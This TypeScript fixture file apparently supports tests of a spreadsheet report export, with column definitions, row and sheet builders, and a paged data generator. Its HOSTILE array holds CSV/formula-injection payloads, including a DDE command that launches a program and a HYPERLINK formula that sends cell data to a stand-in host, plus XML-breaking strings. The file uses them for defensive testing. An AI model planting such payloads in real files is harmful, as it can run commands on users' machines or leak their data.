import type { ReportColumn } from '@cadence/shared-contract/reports';
import { Buffer } from 'node:buffer';
import type { FileContent, Row, TableFile, TableSheet } from '../table-file.ts';

const column = (header: string, values: Partial<ReportColumn> = {}): ReportColumn => ({
  key: header.toLowerCase(),
  header,
  kind: 'text',
  width: 20,
  onPaper: 'cell',
  onPage: true,
  isSortable: false,
  ...values,
});

export const COLUMNS: readonly ReportColumn[] = [
  column('Name', { width: 30 }),
  column('Days', { kind: 'number', width: 8 }),
  column('Share', { kind: 'percent', width: 10 }),
  column('Due', { kind: 'date', width: 12 }),
  column('At', { kind: 'instant', width: 18 }),
  column('Description', { onPaper: 'below', width: 40 }),
  column('Key', { onPaper: 'none' }),
];

/** A row of `COLUMNS`, with the given values. */
export const rowOf = (name: string, ...rest: Row): Row => [
  name,
  ...rest,
  ...Array<null>(COLUMNS.length - 1 - rest.length).fill(null),
];

export async function* pagesOf(rows: readonly Row[], size = 2): AsyncGenerator<readonly Row[]> {
  for (let start = 0; start < rows.length; start += size) yield rows.slice(start, start + size);
}

export const sheetOf = (rows: readonly Row[], name = 'Q4 2026'): TableSheet => ({
  name,
  columns: COLUMNS,
  pages: pagesOf(rows),
});

/** A report of one sheet, or of the given sheets. */
export const tableOf = (rows: readonly Row[], values: Partial<TableFile> = {}): TableFile => ({
  title: 'Goal Compliance List',
  organisation: 'Globex',
  timeZone: 'Europe/Amsterdam',
  madeAt: new Date('2026-11-23T12:00:00Z'),
  author: 'Ana Ruiz',
  facts: [
    { label: 'Scope', text: 'My organization' },
    { label: 'As of', text: 'Nov 23, 2026, 13:00 CET' },
  ],
  figure: { value: '14', sentence: 'of 59 people have not updated weekly predictions', detail: 'Week 7' },
  pictures: [],
  sheets: [sheetOf(rows)],
  empty: 'Nobody is behind.',
  ...values,
});

/** Endless pages, and a record of their state. */
export function endlessPages(page: (index: number) => readonly Row[], last = Infinity) {
  const seen = { read: 0, isEnded: false };
  const ended = Promise.withResolvers<void>();
  const pages = (async function* () {
    try {
      for (; seen.read < last; seen.read += 1) yield page(seen.read);
      throw new Error('the database is away');
    } finally {
      seen.isEnded = true;
      ended.resolve();
    }
  })();
  return { seen, ended: ended.promise, sheet: { name: 'Q4 2026', columns: COLUMNS, pages } };
}

export async function bytesOf(content: FileContent | Promise<FileContent>): Promise<Buffer> {
  const pieces: Uint8Array[] = [];
  for await (const piece of await content) pieces.push(piece);
  return Buffer.concat(pieces);
}

/** Texts that programs misinterpret. */
export const HOSTILE = [
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://evil.test?"&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '<f>1+1</f>',
  ']]></t></is><f>1+1</f>',
  '"><c><f>1</f></c>',
  "'=1+1",
  '00123',
  'TRUE',
  '2026-11-23',
] as const;
